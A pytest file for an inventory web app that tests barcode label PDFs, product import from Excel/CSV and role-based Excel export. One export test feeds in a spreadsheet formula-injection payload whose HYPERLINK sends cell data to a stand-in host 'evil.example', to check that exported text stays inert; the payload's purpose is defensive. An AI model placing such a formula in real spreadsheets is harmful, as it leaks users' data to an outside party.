"""Barcode labels (decoded back from the PDF), Excel/CSV import with opening stock, Excel export by role."""
import csv
import io
import re
import subprocess
import zipfile
from decimal import Decimal

import openpyxl
import pypdfium2
import pytest
import zxingcpp
from itsdangerous import URLSafeTimedSerializer
from sqlalchemy import func, select

from app import checks, documents
from app.catalog import barcodes, labels
from app.imports import framework, reading
from app.imports.kinds import products as product_kind
from app.catalog import services as catalog
from app.catalog.models import Category, Product
from app.extensions import db
from app.inventory.models import MoveKind, StockLevel, StockMove
from app.settings.models import CompanySettings
from tests import factories
from tests.factories import xlsx

EN = {"Accept-Language": "en"}
RENDER_DPI = 300


def ean(body: str) -> str:
    """A GTIN with its check digit."""
    return body + barcodes.gtin_check_digit(body)


def html(response) -> str:
    return response.get_data(as_text=True)


def count(model) -> int:
    return db.session.scalar(select(func.count()).select_from(model))


# --- labels ----------------------------------------------------------------------------------------

def decode_labels(pdf: bytes, size: labels.LabelSize) -> list[str | None]:
    """Render every page and read each label position with ZXing: the code printed there, or None."""
    document = pypdfium2.PdfDocument(pdf)
    px_per_mm = RENDER_DPI / 25.4
    found = []
    for page in document:
        image = page.render(scale=RENDER_DPI / 72, grayscale=True).to_pil()
        for index in range(size.per_page):
            left, top = size.origin(index)
            box = [round(v * px_per_mm) for v in (left, top, left + size.label_mm[0], top + size.label_mm[1])]
            results = zxingcpp.read_barcodes(image.crop(box))
            assert len(results) <= 1
            found.append(results[0].text if results else None)
    return found


def as_read(product) -> str:
    """What a scanner reads from the product's label: ZXing gives a UPC-A as its 13-digit GTIN (leading 0)."""
    code = product.barcode
    return code.zfill(13) if barcodes.symbology(code) == "upca" else code


def pdf_text(pdf: bytes) -> str:
    done = subprocess.run(["pdftotext", "-enc", "UTF-8", "-", "-"], input=pdf, capture_output=True, check=True)
    return done.stdout.decode()


def label_products():
    """One product per symbology, each with a Chinese name."""
    return [
        factories.product(sku="EAN-A", name="苹果手机壳", barcode=ean("690123456789"), sale_price="25.00"),
        factories.product(sku="EAN-B", name="香蕉数据线", barcode=ean("690123456790")),
        factories.product(sku="E8", name="小号贴纸", barcode=ean("9638507")),
        factories.product(sku="UPC", name="进口饼干", barcode=ean("03600029145")),
        factories.product(sku="C128", name="自编码商品", barcode="JXC-000123"),
    ]


def print_labels(client, lines, size, **extra):
    data = {"csrf_token": client.csrf, "size": size, "show_price": "y", **extra,
            "product_id": [p.id for p, _qty in lines], "qty": [qty for _p, qty in lines]}
    return client.post("/products/labels", data=data, headers=EN)


@pytest.mark.parametrize("size,copies", [("roll-50x30", 1), ("roll-40x30", 1), ("a4-3x8", 6), ("a4-5x13", 3)])
def test_every_printed_barcode_decodes_to_what_was_asked(client, login, size, copies):
    login("owner")
    products = label_products()
    lines = [(product, copies + i % 2) for i, product in enumerate(products)]
    response = print_labels(client, lines, size)
    assert response.status_code == 200, html(response)
    assert response.mimetype == "application/pdf"
    assert response.headers["Content-Disposition"].startswith("inline")
    wanted = [as_read(product) for product, qty in lines for _copy in range(qty)]
    decoded = decode_labels(response.data, labels.SIZES[size])
    assert [code for code in decoded if code is not None] == wanted
    assert decoded[:len(wanted)] == wanted  # in order, no gaps; the rest of the last sheet is blank


def test_a4_sheet_fills_pages_of_24_and_continues_on_the_next(client, login):
    login("warehouse")
    product = factories.product(name="苹果手机壳", barcode=ean("690123456789"))
    response = print_labels(client, [(product, 30)], "a4-3x8")
    document = pypdfium2.PdfDocument(response.data)
    assert len(document) == 2
    width, height = document[0].get_size()
    assert (round(width / 72 * 25.4), round(height / 72 * 25.4)) == (210, 297)
    decoded = decode_labels(response.data, labels.SIZES["a4-3x8"])
    assert decoded == [product.barcode] * 30 + [None] * 18


def test_roll_labels_are_one_50_by_30_mm_page_each(client, login):
    login("owner")
    product = factories.product(barcode=ean("690123456789"))
    document = pypdfium2.PdfDocument(print_labels(client, [(product, 3)], "roll-50x30").data)
    assert len(document) == 3
    assert [round(v / 72 * 25.4) for v in document[0].get_size()] == [50, 30]


def test_label_shows_the_chinese_name_sku_and_price_as_real_text(client, login):
    login("owner")
    product = factories.product(sku="CASE-RED", name="苹果手机壳", spec="红色", sale_price="25.00",
                                barcode=ean("690123456789"))
    response = print_labels(client, [(product, 1)], "roll-50x30")
    text = pdf_text(response.data)
    assert "苹果手机壳" in text and "红色" in text
    assert "CASE-RED" in text
    assert "¥25.00" in text
    assert "6 901234 567892" in text  # the digits under the bars
    assert "WenQuanYi" in pdf_fonts(response.data)


def pdf_fonts(pdf: bytes) -> str:
    done = subprocess.run(["pdffonts", "-"], input=pdf, capture_output=True, check=True)
    return done.stdout.decode()


def test_printable_documents_use_the_named_cjk_font_and_the_company_header(app):
    db.session.add(CompanySettings(id=1, name="深圳果果贸易有限公司", address="深圳市南山区", phone="0755-1234",
                                   tax_number="91440300TEST"))
    db.session.commit()
    with app.test_request_context(headers=EN):
        pdf = documents.render_pdf("documents/base.html")
    text = pdf_text(pdf)
    assert "深圳果果贸易有限公司" in text and "深圳市南山区" in text and "91440300TEST" in text
    assert "WenQuanYi" in pdf_fonts(pdf)


def test_warehouse_labels_never_show_the_price(client, login):
    login("warehouse")
    product = factories.product(sku="CASE-RED", name="苹果手机壳", sale_price="25.00", barcode=ean("690123456789"))
    response = print_labels(client, [(product, 1)], "a4-3x8", show_price="y")
    text = pdf_text(response.data)
    assert "苹果手机壳" in text and "CASE-RED" in text
    assert "25.00" not in text and "¥" not in text
    assert "show_price" not in html(client.get("/products/labels"))


def test_price_can_be_left_off_by_those_who_see_it(client, login):
    login("purchasing")
    product = factories.product(sale_price="25.00", barcode=ean("690123456789"))
    data = {"csrf_token": client.csrf, "size": "roll-50x30", "product_id": product.id, "qty": 1}
    text = pdf_text(client.post("/products/labels", data=data).data)
    assert "25.00" not in text


def test_product_without_a_barcode_is_refused_pointing_to_generate_one(client, login):
    login("owner")
    bare = factories.product(sku="NOCODE", name="无码商品")
    coded = factories.product(barcode=ean("690123456789"))
    response = print_labels(client, [(coded, 1), (bare, 2)], "roll-50x30")
    assert response.status_code == 422
    assert response.mimetype == "text/html"
    page = html(response)
    assert "无码商品 (NOCODE)" in page and "have no barcode" in page
    assert f'href="/products/{bare.id}"' in page and "Generate a barcode" in page


def test_a_code_too_long_for_the_small_labels_asks_for_a_larger_size(client, login):
    login("owner")
    product = factories.product(name="长码商品", barcode="LONG-CODE-ABCDEFGHIJ")  # 20 Code 128 symbols
    small = print_labels(client, [(product, 1)], "a4-5x13")
    assert small.status_code == 422
    assert "too long" in html(small) and "larger label size" in html(small)
    assert print_labels(client, [(product, 1)], "a4-3x8").status_code == 200


def test_nothing_chosen_is_422(client, login):
    login("owner")
    response = client.post("/products/labels", data={"csrf_token": client.csrf, "size": "roll-50x30"}, headers=EN)
    assert response.status_code == 422
    assert "Choose at least one product" in html(response)


def test_each_code_is_drawn_once_per_request(client, login, monkeypatch):
    login("owner")
    drawn = []
    real = labels.bars_png
    monkeypatch.setattr(labels, "bars_png", lambda pattern: drawn.append(pattern) or real(pattern))
    products = label_products()[:3]
    assert print_labels(client, [(p, 14) for p in products], "a4-5x13").status_code == 200
    assert len(drawn) == 3


def test_product_page_link_prefills_the_line(client, login):
    login("warehouse")
    product = factories.product(name="苹果手机壳", barcode=ean("690123456789"))
    page = html(client.get(f"/products/labels?product_id={product.id}&qty=12"))
    assert "苹果手机壳" in page
    assert re.search(rf'name="product_id" value="{product.id}"', page)
    assert re.search(r'name="qty" value="12"', page)


def test_search_answers_the_picker_fragment_and_keeps_the_chosen_lines(client, login):
    login("owner")
    chosen = factories.product(name="苹果手机壳", barcode=ean("690123456789"))
    other = factories.product(name="苹果数据线", barcode=ean("690123456790"))
    factories.product(name="香蕉")
    response = client.get(f"/products/labels?q=pingguo&product_id={chosen.id}&qty=3",
                          headers={"HX-Request": "true", **EN})
    fragment = html(response)
    assert fragment.strip().startswith('<div id="label-picker">') and "<html" not in fragment
    assert fragment.count(f'name="product_id" value="{chosen.id}"') == 1  # chosen, not offered again
    assert f'name="product_id" value="{other.id}"' in fragment
    assert "香蕉" not in fragment
    assert 'value="3"' in fragment
    nothing_chosen = html(client.get("/products/labels?q=pingguo", headers={"HX-Request": "true", **EN}))
    assert f'value="{chosen.id}"' in nothing_chosen and f'value="{other.id}"' in nothing_chosen


@pytest.mark.parametrize("role", ["sales", "finance"])
def test_sales_and_finance_may_not_print_labels(client, login, role):
    login(role)
    assert client.get("/products/labels").status_code == 403


# --- import ----------------------------------------------------------------------------------------

HEADERS = ["编码", "名称", "规格", "分类", "品牌", "单位", "条码", "售价", "进价", "最低库存", "最高库存", "期初数量", "期初成本"]



def csv_bytes(rows, headers=HEADERS, encoding="utf-8-sig") -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(headers)
    writer.writerows(rows)
    return out.getvalue().encode(encoding)


GOOD_ROWS = [
    ["CASE-1", "苹果手机壳", "红色", "手机配件/保护壳", "果牌", "个", ean("690123456789"), 25, 10, 5, 100, 40, 9.5],
    ["CABLE-1", "数据线", "", "手机配件/线材", "", "条", "", "12.50", "6", "", "", "", ""],
    ["GLASS-1", "钢化膜", "", "", "", "", ean("690123456790"), "8", "3.2", "", "", "100", ""],
]


def upload(client, data: bytes, filename="products.xlsx", **fields):
    form = {"csrf_token": client.csrf, "file": (io.BytesIO(data), filename), **fields}
    return client.post("/imports/products", data=form, content_type="multipart/form-data", headers=EN)


def hidden(page: str, name: str) -> str:
    return re.search(rf'name="{name}" type="hidden" value="([^"]*)"', page).group(1)


def confirm(client, page: str, **fields):
    form = {"csrf_token": client.csrf, "upload": hidden(page, "upload"), "digest": hidden(page, "digest"),
            "idempotency_key": hidden(page, "idempotency_key"), "action": "confirm", **fields}
    return client.post("/imports/products", data=form, headers=EN)


def test_preview_lists_every_problem_in_plain_language_and_writes_nothing(client, login):
    login("owner")
    factories.product(sku="TAKEN", name="已有商品")
    factories.warehouse()
    rows = [
        GOOD_ROWS[0],
        ["BAD-EAN", "坏条码", "", "", "", "", "6901234567890", "1", "1", "", "", "", ""],
        ["case-1", "重复编码", "", "", "", "", "", "1", "1", "", "", "", ""],
        ["TAKEN", "已有", "", "", "", "", "", "1", "1", "", "", "", ""],
        ["CAT", "没有的分类", "", "不存在/分类", "", "", "", "1", "1", "", "", "", ""],
        ["NUM", "坏数字", "", "", "", "", "", "abc", "-1", "", "", "", ""],
        ["", "没有编码", "", "", "", "", "", "", "", "", "", "", ""],
        ["MINMAX", "上下限", "", "", "", "", "", "", "", "10", "5", "", ""],
        ["PLACES", "小数", "", "", "", "", "", "1.005", "", "", "", "1", ""],
    ]
    response = upload(client, xlsx(HEADERS, rows))
    assert response.status_code == 422
    page = html(response)
    for message in ("Row 3 · 条码: The barcode 6901234567890 has a wrong check digit: it should end in 2.",
                    "Row 4 · 编码: case-1 also appears in row 2.",
                    "Row 6 · 分类: There is no category 不存在/分类.",
                    "Row 7 · 售价: “abc” is not a number.",
                    "Row 7 · 进价: Cannot be negative.",
                    "Row 8 · 编码: This is required.",
                    "Row 9 · 最低库存: The minimum stock is above the maximum.",
                    "Row 10 · 售价: At most 2 decimal places."):
        assert message in page.replace("&#34;", '"'), message
    assert "Nothing has been saved" in page
    assert 'value="confirm"' not in page  # no import button while problems remain
    assert count(Product) == 1 and count(Category) == 0


def test_clean_preview_writes_nothing_until_confirmed(client, login):
    login("purchasing")
    warehouse = factories.warehouse()
    response = upload(client, xlsx(HEADERS, GOOD_ROWS), warehouse_id=warehouse.id, create_categories="y")
    assert response.status_code == 200, html(response)
    page = html(response)
    assert "3 rows are ready to import: 3 new, 0 updated." in page and "2 of them get opening stock" in page
    assert "手机配件/保护壳" in page and "手机配件/线材" in page  # categories to be made
    assert 'value="confirm"' in page
    assert count(Product) == 0 and count(StockMove) == 0 and count(Category) == 0


def test_confirm_imports_every_row_with_categories_barcodes_and_opening_stock(client, login):
    user = login("owner")
    warehouse = factories.warehouse()
    page = html(upload(client, xlsx(HEADERS, GOOD_ROWS), warehouse_id=warehouse.id, create_categories="y"))
    response = confirm(client, page, warehouse_id=warehouse.id, create_categories="y")
    assert response.status_code == 303
    assert response.headers["Location"] == "/imports/products"
    assert "Imported 3 rows: 3 new, 0 updated. Their opening stock was posted as OPN-" in html(
        client.get("/imports/products", headers=EN))
    case = db.session.scalar(select(Product).where(Product.sku == "CASE-1"))
    assert (case.name, case.spec, case.brand, case.category.path) == ("苹果手机壳", "红色", "果牌", "手机配件 / 保护壳")
    assert (case.sale_price, case.purchase_price, case.min_stock, case.max_stock) == (
        Decimal("25.00"), Decimal("10.00"), Decimal("5.000"), Decimal("100.000"))
    assert case.barcode == ean("690123456789") and case.barcodes[0].symbology == "ean13"
    cable = db.session.scalar(select(Product).where(Product.sku == "CABLE-1"))
    assert cable.unit == "条" and cable.sale_price == Decimal("12.50") and cable.barcode is None
    assert cable.category.parent_id == case.category.parent_id  # one 手机配件, two children
    assert count(Category) == 3

    moves = db.session.scalars(select(StockMove).order_by(StockMove.id)).all()
    assert [(m.product.sku, m.qty, m.unit_cost, m.kind, m.warehouse_id, m.user_id) for m in moves] == [
        ("CASE-1", Decimal("40.000"), Decimal("9.5000"), MoveKind.OPENING, warehouse.id, user.id),
        ("GLASS-1", Decimal("100.000"), Decimal("3.2000"), MoveKind.OPENING, warehouse.id, user.id),  # cost = 进价
    ]
    assert moves[0].source_number.startswith("OPN-") and moves[0].source_number == moves[1].source_number
    level = db.session.get(StockLevel, (case.id, warehouse.id))
    assert level.on_hand == Decimal("40.000")
    assert case.avg_cost == Decimal("9.5000")
    assert checks.run_all() == []


def test_a_second_tap_on_confirm_imports_once(client, login):
    login("owner")
    page = html(upload(client, xlsx(HEADERS, GOOD_ROWS[1:2]), create_categories="y"))
    first, second = confirm(client, page, create_categories="y"), confirm(client, page, create_categories="y")
    assert (first.status_code, second.status_code) == (303, 303)
    assert count(Product) == 1


def test_confirm_rechecks_and_one_bad_row_writes_nothing(client, login):
    login("owner")
    warehouse = factories.warehouse()
    page = html(upload(client, xlsx(HEADERS, GOOD_ROWS), warehouse_id=warehouse.id, create_categories="y"))
    factories.product(sku="GLASS-1", name="别人刚建的")  # taken between preview and confirm: the last row
    response = confirm(client, page, warehouse_id=warehouse.id, create_categories="y")
    assert response.status_code == 422
    assert "Row 4 · 期初数量: SKU GLASS-1 already exists: opening stock is taken only with a new product." in html(response)
    assert count(Product) == 1 and count(Category) == 0 and count(StockMove) == 0
    assert checks.run_all() == []


def test_a_refusal_while_writing_leaves_nothing_behind(app):
    """Write raises on the row that fails after earlier rows were flushed; the caller's rollback undoes them."""
    owner = factories.user("owner")
    warehouse = factories.warehouse()
    kind, options = framework.kind("products"), {"warehouse": warehouse, "create_categories": True}
    checked = framework.preview(kind, "p.xlsx", xlsx(HEADERS, GOOD_ROWS), options)
    assert checked.ok
    checked.rows[2].values["sale_price"] = Decimal("-1")  # as if the rules changed after the check
    with pytest.raises(framework.ImportFailed) as failed:
        kind.write(owner, checked, options)
    assert failed.value.problems[0].row == 4
    assert count(Product) == 2  # rows 2 and 3 were flushed in this transaction...
    db.session.rollback()
    assert count(Product) == 0 and count(Category) == 0 and count(StockMove) == 0


@pytest.mark.parametrize("tamper", [
    lambda token: token[:-3] + ("AAA" if not token.endswith("AAA") else "BBB"),
    lambda token: URLSafeTimedSerializer("another key", salt="catalog.import-file").dumps(
        {"name": "x.csv", "data": "c2t1LG5hbWUKWCxZCg=="}),
])
def test_a_tampered_file_is_refused(client, login, tamper):
    login("owner")
    page = html(upload(client, xlsx(HEADERS, GOOD_ROWS[1:2])))
    form = {"csrf_token": client.csrf, "upload": tamper(hidden(page, "upload")),
            "idempotency_key": hidden(page, "idempotency_key"), "action": "confirm"}
    response = client.post("/imports/products", data=form, headers=EN)
    assert response.status_code == 400
    assert "could not be verified" in html(response)
    assert count(Product) == 0


def test_the_file_rides_in_the_page_as_a_url_encoded_field_beyond_multipart_limits(client, login):
    """A previewed file near the 2 MB limit comes back intact (multipart text parts stop at 500 kB)."""
    login("owner")
    rows = [[f"SKU{i:05d}", f"商品{i}", "1", "说明" * 300] for i in range(300)]
    data = csv_bytes(rows, ["sku", "name", "sale_price", "notes"])
    assert 500_000 < len(data) < reading.MAX_BYTES
    page = html(upload(client, data, "big.csv"))
    assert "300 rows are ready to import" in page
    assert re.search(r'<form method="post" action="/imports/products" class="card" hx-boost="false" novalidate>', page)
    assert confirm(client, page).status_code == 303
    assert count(Product) == 300


def test_files_over_2_mb_are_refused(client, login):
    login("owner")
    response = upload(client, b"sku,name\n" + b"x" * reading.MAX_BYTES, "big.csv")
    assert response.status_code == 422
    assert "larger than 2 MB" in html(response)


def test_gbk_csv_with_english_headers_and_a_barcode_that_lost_its_leading_zero(client, login):
    login("owner")
    headers = ["SKU", "Name", "Barcode", "Sale price", "Notes"]
    data = csv_bytes([["UPC-1", "进口饼干", "36000291452", "¥1,200.50", "ignored"]], headers, encoding="gb18030")
    page = html(upload(client, data, "products.csv"))
    assert "1 row is ready to import" in page, page
    assert "Notes" in page  # reported as left out
    assert confirm(client, page).status_code == 303
    product = db.session.scalar(select(Product).where(Product.sku == "UPC-1"))
    assert product.barcode == "036000291452" and product.sale_price == Decimal("1200.50")


def test_opening_stock_needs_a_warehouse(client, login):
    login("owner")
    response = upload(client, xlsx(HEADERS, GOOD_ROWS[2:3]), warehouse_id=0)
    assert response.status_code == 422
    assert "Choose the warehouse that receives the opening stock." in html(response)


@pytest.mark.parametrize("data,filename,message", [
    (b"not a workbook", "products.xlsx", "not an Excel workbook"),
    (b"a,b\n1,2\n", "products.xls", "Save older .xls files as .xlsx"),
    (b"name,price\nX,1\n", "products.csv", "the column “sku” (or “编码”) is missing"),
])
def test_unreadable_files_say_why(client, login, data, filename, message):
    login("owner")
    response = upload(client, data, filename)
    assert response.status_code == 422
    assert message in html(response)


def test_more_than_the_row_limit_is_refused_before_checking_rows(client, login):
    login("owner")
    rows = [[f"S{i}", "商品"] for i in range(reading.MAX_ROWS + 1)]
    response = upload(client, csv_bytes(rows, ["sku", "name"]), "many.csv")
    assert response.status_code == 422
    assert f"At most {reading.MAX_ROWS} rows per file" in html(response)


def test_a_workbook_that_inflates_too_far_is_refused(client, login):
    login("owner")
    padded = io.BytesIO(xlsx(HEADERS, GOOD_ROWS))
    with zipfile.ZipFile(padded, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/padding.bin", bytes(reading.MAX_UNZIPPED_BYTES))
    assert len(padded.getvalue()) < reading.MAX_BYTES
    response = upload(client, padded.getvalue())
    assert response.status_code == 422
    assert "too large once unpacked" in html(response)


def test_upload_without_a_file_is_422_on_the_file_field(client, login):
    login("owner")
    response = client.post("/imports/products", data={"csrf_token": client.csrf}, headers=EN)
    assert response.status_code == 422
    assert "Choose a file to upload." in html(response)


def test_template_has_every_column_and_imports_once_filled(client, login):
    login("purchasing")
    response = client.get("/imports/products/template")
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    workbook = openpyxl.load_workbook(io.BytesIO(response.data))
    sheet = workbook.worksheets[0]
    assert [c.value for c in sheet[1]] == HEADERS
    assert sheet["G2"].number_format == "@"  # barcodes typed here keep their leading zeros
    sheet.append(["T-1", "模板商品", "", "", "", "", "", "9.9"])
    out = io.BytesIO()
    workbook.save(out)
    page = html(upload(client, out.getvalue()))
    assert "1 row is ready to import" in page


@pytest.mark.parametrize("role", ["sales", "warehouse", "finance"])
def test_only_owner_and_purchasing_import(client, login, role):
    login(role)
    assert client.get("/imports/products").status_code == 403
    assert client.get("/imports/products/template").status_code == 403
    assert client.get("/products/import").status_code == 403


def test_import_page_offers_the_template_and_the_default_warehouse(client, login):
    login("owner")
    factories.warehouse(name="总仓")
    assert client.get("/products/import").headers["Location"] == "/imports/products"  # the old address
    page = html(client.get("/imports/products", headers=EN))
    assert 'href="/imports/products/template"' in page and 'enctype="multipart/form-data"' in page
    assert re.search(r'<option selected value="\d+">总仓</option>', page)


# --- export ----------------------------------------------------------------------------------------

def exported(client, query="") -> openpyxl.worksheet.worksheet.Worksheet:
    response = client.get(f"/products/export{query}")
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="products-')
    return openpyxl.load_workbook(io.BytesIO(response.data)).worksheets[0]


@pytest.mark.parametrize("role,sale,cost", [
    ("owner", True, True), ("purchasing", True, True), ("finance", True, True),
    ("sales", True, False), ("warehouse", False, False),
])
def test_export_columns_follow_the_role(client, login, role, sale, cost):
    login(role)
    factories.product(sku="CASE-1", name="苹果手机壳", sale_price="25.00", purchase_price="13.57",
                      barcode=ean("690123456789"))
    sheet = exported(client)
    header = [c.value for c in sheet[1]]
    assert ("售价" in header) is sale and ("进价" in header) is cost
    values = [c.value for c in sheet[2]]
    assert values[:2] == ["CASE-1", "苹果手机壳"] and ean("690123456789") in values
    assert (25 in values) is sale
    assert (13.57 in values) is cost


def test_exported_text_stays_text_never_a_formula(client, login):
    login("owner")
    typed = ['=HYPERLINK("http://evil.example/?leak="&A1,"点我")', "+1+2", "-3", "@SUM(A1:A2)", "\t=1+1", "#N/A"]
    names = [factories.product(sku=f"F{index}", name=name).name for index, name in enumerate(typed)]
    response = client.get("/products/export")
    archive = zipfile.ZipFile(io.BytesIO(response.data))
    sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).worksheets[0]
    cells = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
    for index, name in enumerate(names):
        cell = cells[f"F{index}"]
        assert cell.value == name and cell.data_type == "s"
        assert cell.quotePrefix is (name[0] in "=+-@")
    # and it round-trips: the importer reads each name back as the same text
    checked = framework.preview(framework.kind("products"), "export.xlsx", response.data)
    assert sorted(plan.values["name"] for plan in checked.rows) == sorted(names)


def test_export_follows_the_list_filters(client, login):
    login("sales")
    phones = catalog.create_category(None, "手机配件")
    cases = catalog.create_category(None, "保护壳", phones.id)
    db.session.commit()
    factories.product(sku="A1", name="苹果手机壳", category_id=cases.id)
    factories.product(sku="A2", name="苹果旧壳", category_id=cases.id, active=False)
    factories.product(sku="B1", name="香蕉")
    skus = lambda sheet: [row[0].value for row in sheet.iter_rows(min_row=2)]  # noqa: E731
    assert sorted(skus(exported(client))) == ["A1", "B1"]
    assert skus(exported(client, f"?category_id={phones.id}")) == ["A1"]
    assert sorted(skus(exported(client, f"?category={phones.id}&status=all"))) == ["A1", "A2"]
    assert skus(exported(client, "?q=pingguo&active=0")) == ["A2"]
    assert exported(client, "?q=nothing-matches").max_row == 1
    assert sorted(skus(exported(client, "?status=bogus"))) == ["A1", "B1"]  # like the list: active by default


def test_exported_headers_are_what_the_importer_reads(client, login):
    login("owner")
    factories.product(sku="X1", barcode=ean("690123456789"))
    sheet = exported(client)
    header = [c.value for c in sheet[1]]
    assert all(h.lower() in product_kind.HEADER_FIELDS for h in header)
    english = client.get("/products/export", headers=EN)
    header = [c.value for c in openpyxl.load_workbook(io.BytesIO(english.data)).worksheets[0][1]]
    assert header[:2] == ["sku", "name"]


